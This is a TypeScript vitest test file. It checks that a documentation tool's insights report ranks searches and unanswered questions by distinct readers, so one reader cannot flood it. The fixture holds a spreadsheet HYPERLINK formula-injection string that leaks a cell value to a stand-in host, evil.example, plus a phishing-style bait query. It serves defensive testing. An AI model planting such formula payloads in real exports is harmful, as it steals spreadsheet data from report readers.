import { beforeAll, describe, expect, it } from 'vitest';
import { rolledUp } from '../../test-support/insights-history.js';
import { storeForSuite, testBackends } from '../../test-support/test-databases.js';
import type { Database } from '../store/database.js';
import { questions } from '../store/schema.js';
import { recordSearchQuery } from '../store/search-queries.js';
import { readInsights } from './insights.js';
import { readInsightsSummary } from './summary.js';

/**
 * One reader cannot fill the maintainers' insights with chosen text: what readers searched and asked ranks by how
 * many readers did, so a reader repeating a query, or alternating two so no typing merges them, counts once, on the
 * days already summed up as on today.
 */
const eve = 'oidc:https://idp.example#eve';
const ada = 'oidc:https://idp.example#ada';
const bob = 'oidc:https://idp.example#bob';
const lure = '=HYPERLINK("http://evil.example/?x="&A1,"Click for docs")';
const bait = 'qqqzzz visit evil.example for the new handbook';
const dayMs = 86_400_000;

async function seed(db: Database, now: Date) {
  // Over the last five days, today included: days summed up and the log of today.
  const at = (index: number) => new Date(now.getTime() - (index % 5) * dayMs - 60_000 - index * 1000);
  for (let index = 0; index < 30; index++) {
    // The bait a moment after the lure, so the tie of the two (one reader, 30 searches) goes to the bait.
    await recordSearchQuery(db, { reader: eve, query: lure, resultCount: 0, at: new Date(at(index).getTime() - 500) });
    await recordSearchQuery(db, { reader: eve, query: bait, resultCount: 0, at: at(index) });
    await recordSearchQuery(db, { reader: eve, query: 'evil.example handbook', resultCount: 3, at: at(index) });
  }
  for (const [index, reader] of [ada, bob].entries()) {
    await recordSearchQuery(db, { reader, query: index ? 'Kubectl' : 'kubectl', resultCount: 0, at: at(index + 1) });
    await recordSearchQuery(db, { reader, query: 'vpn setup', resultCount: 3, at: at(index + 2) });
  }
  const unanswered = (reader: string, question: string, index: number) => ({
    id: `${reader}-${index}`,
    reader,
    question,
    mode: 'docs-only' as const,
    covered: false,
    confidence: 'none' as const,
    answerMessageId: `${reader}-answer-${index}`,
    createdAt: at(index),
  });
  await db
    .insert(questions)
    .values([
      ...Array.from({ length: 30 }, (_, index) => unanswered(eve, `evil.example handbook moved ${index}`, index)),
      unanswered(ada, 'sso login loop', 31),
      unanswered(bob, 'sso login loop again', 32),
    ]);
}

for (const backend of testBackends) {
  describe.skipIf(backend.skipped)(`insights count readers, not repeats, on ${backend.name}`, () => {
    const store = storeForSuite(backend);
    const now = new Date();
    beforeAll(async () => seed(store.db, now));

    it('oneReaderAlternatingTwoQueries: neither outranks a search two readers made, and each shows 1 reader', async () => {
      for (const days of [7, 30] as const) {
        const { searches } = await readInsights(store.db, { days, now, lastDocsBuildAt: null });

        expect(searches.noResult, `${days} days`).toEqual([
          expect.objectContaining({ query: 'kubectl', readers: 2, searches: 2 }),
          expect.objectContaining({ query: bait, readers: 1, searches: 30 }),
          expect.objectContaining({ query: lure.toLowerCase(), readers: 1, searches: 30 }),
        ]);
        expect(searches.noClick.map(({ query, readers, searches }) => ({ query, readers, searches }))).toEqual([
          { query: 'vpn setup', readers: 2, searches: 2 },
          { query: 'evil.example handbook', readers: 1, searches: 30 },
        ]);
        // The searches themselves are still all counted.
        expect(searches).toMatchObject({ total: 94, withoutResult: 62, withoutClick: 32 });
      }
      // The period's days before today were read from their sums: repeats across them still count once.
      expect((await rolledUp(store.db)).days).toBeGreaterThanOrEqual(4);
    });

    it('oneReaderRepeatingAQuestion: thirty questions of one reader rank below a topic two readers asked', async () => {
      const { unansweredTopics } = await readInsights(store.db, { days: 7, now, lastDocsBuildAt: null });

      expect(unansweredTopics.map(({ label, readers }) => ({ label, readers }))).toEqual([
        { label: 'sso login loop', readers: 2 },
        { label: expect.stringContaining('evil.example'), readers: 1 },
      ]);
    });

    it("gives the report's summary the same ranking", async () => {
      const summary = await readInsightsSummary(store.db, { from: new Date(now.getTime() - 7 * dayMs), to: now });

      expect(summary.searches.noResult.map(({ query, readers }) => [query, readers])).toEqual([
        ['kubectl', 2],
        [bait, 1],
        [lure.toLowerCase(), 1],
      ]);
      expect(summary.unansweredTopics.map((topic) => topic.readers)).toEqual([2, 1]);
    });
  });
}
